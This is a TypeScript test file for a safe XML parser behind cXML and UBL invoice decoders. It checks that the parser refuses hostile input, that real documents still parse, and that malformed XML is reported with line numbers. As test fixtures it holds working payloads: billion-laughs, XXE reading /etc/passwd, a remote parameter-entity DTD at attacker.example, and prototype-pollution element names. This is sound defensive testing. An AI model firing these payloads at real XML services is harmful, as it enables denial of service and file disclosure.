import { describe, expect, it } from "vitest";
import { decodeCxml } from "../cxml/index.ts";
import { decodeUbl } from "../ubl/index.ts";
import { verifyCxmlSharedSecret } from "../verify/cxml-shared-secret.ts";
import { parseXml } from "./safe-xml.ts";

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE cXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"><Request><StatusUpdateRequest><Status code="200" text="&xxe;"/></StatusUpdateRequest></Request></cXML>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE data [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<data/>`;

const SSRF_DTD = `<?xml version="1.0"?>
<!DOCTYPE cXML SYSTEM "file:///etc/passwd">
<cXML/>`;

const CXML_DOCTYPE = `<?xml version="1.0"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/Fulfill.dtd">
<cXML payloadID="p" timestamp="2026-01-01T00:00:00Z"/>`;

describe("safe XML: hostile documents are refused", () => {
  it.each([
    ["billion laughs (nested internal entities)", BILLION_LAUGHS, 3],
    ["external entity (XXE file read)", EXTERNAL_ENTITY, 2],
    ["parameter entity pulling a remote DTD", PARAMETER_ENTITY, 2],
  ])("%s", (_name, xml, line) => {
    const result = parseXml(xml);
    // refused at the first entity declaration, before any parsing
    expect(result).toMatchObject({ ok: false, code: "unsafe_xml", path: "DOCTYPE", line });
  });

  it("refuses a DOCTYPE whose external identifier is not an http(s) DTD (file:, SSRF)", () => {
    expect(parseXml(SSRF_DTD)).toMatchObject({ ok: false, code: "unsafe_xml", reason: expect.stringContaining("file:///etc/passwd") });
  });

  it("refuses entity declarations hidden after the root too", () => {
    expect(parseXml(`<a/>\n<!ENTITY x "y">`)).toMatchObject({ ok: false, code: "unsafe_xml", line: 2 });
  });

  it("refuses a parameter entity reference in an internal subset even without a declaration", () => {
    expect(parseXml(`<!DOCTYPE a [ %remote; ]>\n<a/>`)).toMatchObject({ ok: false, code: "unsafe_xml", path: "DOCTYPE" });
  });

  it("refuses element names that would collide with Object.prototype in the parser's objects", () => {
    for (const name of ["__proto__", "constructor", "x:toString", "hasOwnProperty"]) {
      expect(parseXml(`<a>\n<${name}>1</${name}></a>`)).toMatchObject({ ok: false, code: "unsupported_document", line: 2 });
    }
  });

  it("never expands an undeclared entity reference", () => {
    expect(parseXml("<a>&ext;</a>")).toMatchObject({ ok: false, code: "not_well_formed" });
  });

  it.each([
    ["cXML decoder", (x: string) => decodeCxml(x)],
    ["UBL decoder", (x: string) => decodeUbl(x)],
    ["cXML shared-secret verifier", (x: string) => verifyCxmlSharedSecret(x, { sharedSecrets: ["s"] })],
  ])("the %s refuses billion laughs and XXE without expanding", (_name, decode) => {
    for (const xml of [BILLION_LAUGHS, EXTERNAL_ENTITY]) {
      const result = decode(xml);
      expect(result.ok).toBe(false);
    }
  });

  it("bounds nesting depth", () => {
    const deep = `${"<a>".repeat(65)}${"</a>".repeat(65)}`;
    expect(parseXml(deep)).toMatchObject({ ok: false, code: "too_large", reason: expect.stringMatching(/nested deeper than 64/) });
    expect(parseXml(`${"<a>".repeat(10)}${"</a>".repeat(10)}`, { maxDepth: 9 }).ok).toBe(false);
    expect(parseXml(`${"<a>".repeat(10)}${"</a>".repeat(10)}`, { maxDepth: 10 }).ok).toBe(true);
  });

  it("bounds size before parsing", () => {
    expect(parseXml(`<a>${"x".repeat(2000)}</a>`, { maxBytes: 1000 })).toMatchObject({ ok: false, code: "too_large" });
  });

  it("bounds the number of elements", () => {
    expect(parseXml(`<a>${"<b/>".repeat(101)}</a>`, { maxElements: 100 })).toMatchObject({ ok: false, code: "too_large" });
  });
});

describe("safe XML: real documents still parse", () => {
  it("accepts a cXML DOCTYPE pointing at the cXML DTD (without fetching it)", () => {
    const result = parseXml(CXML_DOCTYPE);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.document.doctype).toBe('cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/Fulfill.dtd"');
  });

  it("resolves namespaces and keeps source lines", () => {
    const result = parseXml(`<?xml version="1.0"?>\n<x:Order xmlns:x="urn:o" xmlns:c="urn:c">\n  <c:ID>1</c:ID>\n  <c:ID>2</c:ID>\n</x:Order>`);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const root = result.document.root;
    expect(root).toMatchObject({ name: "Order", ns: "urn:o", line: 2, path: "Order" });
    expect(root.children.map((c) => [c.name, c.ns, c.text, c.line, c.path])).toEqual([
      ["ID", "urn:c", "1", 3, "Order/ID[1]"],
      ["ID", "urn:c", "2", 4, "Order/ID[2]"],
    ]);
  });

  it("keeps document order across differently named siblings, and numbers same-named ones", () => {
    const result = parseXml(`<r><b/><a/><b/><a x="1"/><c/></r>`);
    expect(result.ok && result.document.root.children.map((c) => c.path)).toEqual(["r/b[1]", "r/a[1]", "r/b[2]", "r/a[2]", "r/c"]);
  });

  it("decodes ISO-8859-1 when the declaration says so, strips a UTF-8 BOM", () => {
    const latin1 = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>'), Buffer.from([0xe9]), Buffer.from("</a>")]);
    const parsed = parseXml(latin1);
    expect(parsed.ok && parsed.document.root.text).toBe("é");
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("<a>x</a>")]);
    expect(parseXml(bom).ok).toBe(true);
  });
});

describe("safe XML: broken documents are refused with the line", () => {
  it.each([
    ["mismatched close tag", "<a>\n<b>\n</a>", 3],
    ["text after the root", "<a/>\ntrailing", 2],
    ["a second root element", "<a/>\n<b/>", 2],
    ["unclosed attribute quote", '<a>\n<b c="1>\n</a>', undefined],
  ])("%s", (_name, xml, line) => {
    const result = parseXml(xml);
    expect(result).toMatchObject({ ok: false, code: "not_well_formed" });
    if (line !== undefined && !result.ok) expect(result.line).toBe(line);
  });

  it("refuses invalid UTF-8 and UTF-16", () => {
    expect(parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]))).toMatchObject({ ok: false, code: "not_well_formed" });
    expect(parseXml(Buffer.from("\ufeff<a/>", "utf16le"))).toMatchObject({ ok: false, code: "unsupported_document" });
  });

  it("refuses an empty document", () => {
    expect(parseXml("  \n")).toMatchObject({ ok: false, code: "not_well_formed", reason: "document is empty" });
  });

  it("refuses characters XML cannot carry and ']]>' outside CDATA, which sax lets through", () => {
    for (const c of ["\u0000", "\u0001", "\u001f", "\u000b"]) {
      const result = parseXml(`<a>\n<b>x${c}y</b>\n</a>`);
      expect(result, JSON.stringify(c)).toMatchObject({ ok: false, code: "not_well_formed", line: 2 });
    }
    expect(parseXml(Buffer.from("<a>\n\n<b>1 ]]> 2</b></a>"))).toMatchObject({ ok: false, code: "not_well_formed", reason: expect.stringContaining("outside a CDATA section") });
    // Tab, LF and CR are characters; "]]>" closing a CDATA section is its proper end.
    expect(parseXml("<a>\t<b>x\r\ny</b><![CDATA[ 1 < 2 ]]><![CDATA[x]]></a>")).toMatchObject({ ok: true });
  });
});
